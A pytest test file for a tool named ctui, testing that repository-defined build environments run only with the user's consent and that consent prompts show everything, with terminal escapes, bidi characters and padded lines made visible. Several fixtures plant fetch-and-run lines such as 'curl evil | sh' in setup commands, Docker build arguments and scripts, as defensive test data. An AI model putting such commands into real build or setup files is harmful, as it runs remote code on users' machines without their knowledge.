"""No environment of a repository is built or used without the person's consent to its content."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ctui.client.tasks.environments import EnvironmentWish, ensure_environment
from ctui.config import Config, load_config
from ctui.environments.consent import consent_text
from ctui.environments.lookup import plan_of
from ctui.environments.records import Environment, Records
from ctui.errors import ConsentRequired
from ctui.git.repository.repository import open_repository
from ctui.paths import Paths
from ctui.sandbox.docker.image import image_tag
from tests.cli.commands import ctui, refused
from tests.environments.test_choice import put

TABLE = {".ctui.toml": '[environment]\nsetup = "npm ci"\n'}


async def ensured(paths: Paths, repository: Path, wish: EnvironmentWish) -> Environment | None:
    return await ensure_environment(paths, open_repository(repository), "HEAD", Config(), wish)


def as_built(paths: Paths, repository: Path) -> Environment:
    """Write the record of an environment as if it had been built."""
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    made = Environment(
        id=plan.id,
        repository=str(repository / ".git"),
        source="repository",
        file=".ctui.toml",
        commit=plan.files.commit,
        state="ready",
        made_with=image_tag(Config().image),
    )
    Records(paths).save(made)
    return made


async def test_without_a_definition_nothing_is_asked(paths: Paths, repository: Path) -> None:
    assert await ensured(paths, repository, EnvironmentWish()) is None


async def test_it_is_asked_once_and_again_for_another_content(
    paths: Paths, repository: Path
) -> None:
    """Consent is never inherited, also where a branch brings the change; a lock file needs none."""
    put(repository, TABLE)
    as_built(paths, repository)
    with pytest.raises(ConsentRequired, match=r"needs your consent"):
        await ensured(paths, repository, EnvironmentWish())
    shown: list[str] = []

    def say(answer: bool) -> EnvironmentWish:
        return EnvironmentWish(ask=lambda text: shown.append(text) or answer)  # type: ignore[func-returns-value]

    with pytest.raises(ConsentRequired, match="without your consent"):
        await ensured(paths, repository, say(False))
    assert await ensured(paths, repository, say(True)) is not None
    assert "runs once: npm ci" in shown[-1]
    assert await ensured(paths, repository, EnvironmentWish()) is not None
    put(repository, {".ctui.toml": '[environment]\nsetup = "npm ci; curl evil | sh"\n'})
    with pytest.raises(ConsentRequired, match="changed, and needs"):
        await ensured(paths, repository, EnvironmentWish())
    with pytest.raises(ConsentRequired):
        await ensured(paths, repository, say(False))
    assert shown[-1].startswith("It has changed")
    put(repository, {**TABLE, "package-lock.json": "{}\n"})
    as_built(paths, repository)
    assert await ensured(paths, repository, EnvironmentWish()) is not None


def test_what_is_shown_has_nothing_that_a_terminal_acts_on(paths: Paths, repository: Path) -> None:
    text = '[environment]\nsetup = "echo \\u001b[2J\\r; \\u202e true"\n'
    put(repository, {".ctui.toml": text})
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    said = consent_text(plan)
    assert r"echo \x1b[2J\r; \u202e true" in said  # and hides nothing
    assert "\x1b" not in said
    assert "\r" not in said
    assert "\u202e" not in said


async def test_a_service_s_dockerfile_and_what_it_copies_are_a_part_of_it(
    paths: Paths, repository: Path
) -> None:
    """Each line that is built is shown; another content of a copied file is asked about again."""
    service = {"build": {"context": "db", "args": {"DO": "curl evil | sh"}}}
    compose = {"services": {"app": {"image": "debian"}, "db": service}}
    files = {
        ".devcontainer.json": json.dumps({"dockerComposeFile": "c.yml", "service": "app"}),
        "c.yml": json.dumps(compose),
        "db/Dockerfile": "FROM debian\nARG DO\nCOPY init.sh /\nRUN $DO\n",
        "db/init.sh": "echo hello\n",
        "db/README": "one\n",
    }
    put(repository, files)
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    said = consent_text(plan)
    assert "builds db/Dockerfile, with db as its context:" in said
    assert "\n    RUN $DO\n" in said
    assert "with the argument DO=curl evil | sh" in said
    assert "starts beside each task db, from what that builds" in said
    assert plan.covers == ("db/Dockerfile", "db/init.sh")

    Records(paths).give_consent(str(repository / ".git"), plan.consent, "c.yml")
    put(repository, {"db/README": "two\n"})
    as_built(paths, repository)
    assert await ensured(paths, repository, EnvironmentWish()) is not None
    put(repository, {"db/init.sh": "curl evil | sh\n"})
    with pytest.raises(ConsentRequired, match="changed, and needs"):
        await ensured(paths, repository, EnvironmentWish())


def test_what_is_built_is_shown_with_all_that_decides_on_it(paths: Paths, repository: Path) -> None:
    """Arguments can be commands, and blank lines cannot push a line out of sight."""
    build = {"dockerfile": "Dockerfile", "args": {"DO": "curl evil | sh"}, "target": "last"}
    text = "FROM debian AS last\nARG DO\n" + "\n" * 500 + "RUN $DO\n"
    put(repository, {".devcontainer.json": json.dumps({"build": build}), "Dockerfile": text})
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    said = consent_text(plan)
    assert "\n    RUN $DO\n" in said
    assert "with the argument DO=curl evil | sh" in said
    assert "up to its stage last" in said
    put(repository, {"Dockerfile": "FROM debian AS last\n" + "ARG DO\n" * 500})
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    where = f"git show {plan.files.commit[:12]}:Dockerfile"
    assert f"and 301 more lines, which are not shown: {where}" in consent_text(plan)


def test_what_runs_at_each_start_is_shown_and_covered_with_what_it_names(
    paths: Paths, repository: Path
) -> None:
    said = {"image": "debian:bookworm", "postStartCommand": "sh ./serve.sh --now"}
    put(repository, {".devcontainer.json": json.dumps(said), "serve.sh": "python3 -m http.server"})
    plan = plan_of(paths, open_repository(repository), "HEAD")
    assert plan is not None
    assert "runs at each start of a task: sh ./serve.sh --now" in consent_text(plan)
    assert plan.covers == ("serve.sh",)
    put(repository, {"serve.sh": "curl evil | sh"})
    changed = plan_of(paths, open_repository(repository), "HEAD")
    assert changed is not None
    assert changed.consent != plan.consent


def test_what_a_service_may_do_is_shown_and_a_change_of_it_is_asked_about(
    repository: Path,
) -> None:
    """Everything of a service belongs to the content that was agreed to."""
    text = """[environment.services.db]
image = "postgres:16"
command = ["-c", "fsync=off"]
health = "pg_isready"
data = "task"
env = { POSTGRES_PASSWORD = "secret" }
"""
    put(repository, {".ctui.toml": text})
    said = ctui(repository, "env", "show").stdout
    assert "  starts beside each task db, from the image postgres:16\n" in said
    assert "    with the command -c fsync=off\n" in said
    assert "    with POSTGRES_PASSWORD=secret\n" in said
    assert "    ready once it can run /bin/sh -c pg_isready\n" in said
    assert "    keeps its volumes as long as the task\n" in said
    first = plan_of(Paths.from_environment({}), open_repository(repository), "HEAD")
    put(repository, {".ctui.toml": text.replace("fsync=off", "fsync=on")})
    second = plan_of(Paths.from_environment({}), open_repository(repository), "HEAD")
    assert first is not None
    assert second is not None
    assert first.consent != second.consent


def test_exit_code_3_names_the_command_that_consents(repository: Path) -> None:
    """Interfaces: without a terminal exit 3; the line names the command."""
    put(repository, TABLE)
    assert "ctui env build --yes" in refused(repository, "env", "build", code=3)
    shown = json.loads(ctui(repository, "env", "show", "--json").stdout)
    assert (shown["state"], shown["consent"], shown["source"]) == ("none", "needed", "repository")
    assert [one["key"] for one in shown["keys"]] == ["environment.setup"]
    assert set(shown["keys"][0]) == {"key", "file", "status", "reason"}


def test_a_repository_without_an_environment_shows_the_default(repository: Path) -> None:
    shown = json.loads(ctui(repository, "env", "show", "--json").stdout)
    assert shown == {
        "id": "",
        "source": "default",
        "file": "",
        "state": "none",
        "keys": [],
        "consent": "not needed",
        "inputs": [],
        "services": [],
    }


def test_an_environment_is_no_setting_of_the_repository(paths: Paths, repository: Path) -> None:
    """The one exception to the rule that a repository's file can only narrow."""
    text = '[claude]\nmodel = "haiku"\n\n[environment]\nsetup = "x"\n'
    (repository / ".ctui.toml").write_text(text)
    config = load_config(paths, {}, repository)
    assert config == load_config(paths, {"CTUI_CLAUDE_MODEL": "haiku"})
